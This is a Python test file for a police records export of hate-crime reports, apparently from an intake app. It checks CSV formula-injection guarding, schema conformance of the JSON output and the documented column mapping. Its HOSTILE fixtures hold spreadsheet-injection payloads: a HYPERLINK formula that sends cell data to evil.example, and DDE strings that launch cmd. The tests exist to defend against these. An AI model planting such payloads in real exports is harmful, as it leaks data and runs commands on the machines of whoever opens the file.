"""The export for the force's records system. Hostile first: a centre's free text that a
spreadsheet would run as a formula (=, +, -, @, a tab or a carriage return at the start of a
cell) arrives as plain text; then the CSV as Excel and Python read it, the JSON against its
published schema (each report against the batch format's), and the mapping documented column by
column."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import jsonschema
from hypothesis import given
from hypothesis import strategies as st

from intake_app.exchange.report_schema import report_schema
from intake_app.force import records_export
from intake_app.force.finding import Filters, Received

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def received(number: int = 1, status: str = "received") -> Received:
    return Received(f"{number:032x}", f"RIVA-2026-{number:05d}-Q", "RIVA", "b" * 32,
                    "2026-11-21T10:00:00Z", "2026-11-20", "2026-11-19", "police_with_contact",
                    True, status, ("race", "religion"))  # fmt: skip


def document(**report: Any) -> dict[str, Any]:
    return {
        "format": "intake-report/2", "id": "1" * 32, "reference": "RIVA-2026-00001-Q",
        "centre_code": "RIVA", "created_at": "2026-11-20T09:00:00Z", "identifying_details": True,
        "attachments": [{"member": "attachments/" + "a" * 32 + ".png", "media_type": "image/png",
                         "size": 10, "sha256": "0" * 64}],
        "report": {"consent": "police_with_contact",
                   "strands": [{"strand": "race", "sub_category": ""},
                               {"strand": "religion", "sub_category": "muslim"}],
                   "incident_types": ["verbal_abuse", "threats"],
                   "offenders": [{"name": "=tall man", "sex": "male"}], **report},
    }  # fmt: skip


def _read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark: Excel reads it so
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_cell_of_a_hostile_report_starts_as_a_formula() -> None:
    doc = document(description=HOSTILE[0], exact_words=HOSTILE[1], perception=HOSTILE[2],
                   access_needs=HOSTILE[3], victim_type=HOSTILE[4])  # fmt: skip
    doc["report"]["person"] = {"name": HOSTILE[5], "phone": "+44 116 496 0123"}
    (row,) = _read(records_export.to_csv([(received(), doc)]))
    for cell in row.values():
        assert not cell.startswith(records_export._HOSTILE_START), cell
    assert row["description"] == "'" + HOSTILE[0]
    assert row["person.name"] == "'" + HOSTILE[5]
    assert row["person.phone"] == "'+44 116 496 0123"  # a number too: the rule has no exception
    assert row["offenders"].startswith("[")  # JSON text: not a formula


@given(st.text(max_size=40))
def test_any_text_comes_back_as_written_or_with_one_quote_before_it(text: str) -> None:
    (row,) = _read(records_export.to_csv([(received(), document(description=text))]))
    cell = row["description"]
    assert not cell.startswith(records_export._HOSTILE_START)
    assert cell in (text, "'" + text)


def test_the_csv_carries_every_field_with_lists_written_as_documented() -> None:
    data = records_export.to_csv(
        [(received(1), document(description="Line one\nline two, with a comma")),
         (received(2, "erased"), None)]
    )  # fmt: skip
    assert b"\r\n" in data  # RFC 4180 line ends
    first, erased = _read(data)
    assert first["strand_codes"] == "race; religion"
    assert first["strands"] == "race; religion:muslim"
    assert first["incident_types"] == "verbal_abuse; threats"
    assert first["description"] == "Line one\nline two, with a comma"
    assert json.loads(first["offenders"])[0]["name"] == "=tall man"  # inside JSON: not first
    assert first["identifying_details"] == "true" and first["contact.phone_ok"] == ""
    assert first["attachments"] == "attachments/" + "a" * 32 + ".png"
    assert erased["status"] == "erased" and erased["description"] == ""
    assert list(first) == list(records_export.columns())


def test_the_json_export_follows_its_published_schema() -> None:
    published = json.loads(Path("docs/schema/force-export-v1.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(published)
    data = records_export.to_json(
        [(received(1), document(description=HOSTILE[0])), (received(2, "erased"), None)],
        "leicestershire",
        Filters(centre="RIVA", strand="race"),
    )
    exported = json.loads(data)
    jsonschema.validate(exported, published)
    sent_report = report_schema()["properties"]["report"]
    jsonschema.validate(exported["reports"][0]["report"], sent_report)
    assert exported["reports"][0]["report"]["description"] == HOSTILE[0]  # JSON is not guarded
    assert exported["reports"][1]["report"] is None
    assert exported["filters"]["centre"] == "RIVA"
    broken = json.loads(data)
    broken["reports"][1]["report"] = {"description": "left behind"}
    assert not jsonschema.Draft202012Validator(published).is_valid(broken)


def test_every_column_and_field_is_in_the_documented_mapping() -> None:
    mapping = Path("docs/force-export.md").read_text()
    for column in records_export.columns():
        assert f"`{column}`" in mapping, column
    for field in ("format", "version", "force_code", "exported_at", "filters", "reports", "report"):
        assert f"`{field}`" in mapping, field


def test_every_national_code_is_in_the_documented_mapping() -> None:
    mapping = Path("docs/force-export.md").read_text()
    core = json.loads(Path("resources/vocabulary/core.json").read_text())
    codes = [t["code"] for k in ("incident_types", "place_types") for t in core[k]]
    for strand in core["strands"]:
        codes += [strand["code"], *(c["code"] for c in strand.get("sub_categories", []))]
    assert [c for c in codes if f"`{c}`" not in mapping] == []


ODD_TEXT = st.text(
    alphabet=st.sampled_from(
        ['"', "\\", "\n", "\r", "\u2028", "\u2029", "\x1c", "é", "🙂", "a", " "]
    ),
    max_size=20,
)


@given(texts=st.lists(ODD_TEXT, max_size=4), erased=st.booleans())
def test_the_json_written_a_report_at_a_time_is_what_writing_it_whole_gives(
    texts: list[str], erased: bool
) -> None:
    from datetime import UTC, datetime

    rows: list[tuple[Received, dict[str, Any] | None]] = [
        (received(n + 1), document(description=text, exact_words=text))
        for n, text in enumerate(texts)
    ]
    if erased:
        rows.append((received(9, "erased"), None))
    moment = datetime(2026, 11, 22, 10, 0, tzinfo=UTC)
    chosen = Filters(centre="RIVA")
    streamed = records_export.to_json(rows, "leicestershire", chosen, moment)
    whole = json.loads(streamed)  # as the earlier version made it: one document, dumped at once
    expected = json.dumps(whole, ensure_ascii=False, indent=1).encode("utf-8") + b"\n"
    assert streamed == expected
    assert [r["report"] and r["report"]["description"] for r in whole["reports"]] == [
        *texts,
        *([None] if erased else []),
    ]
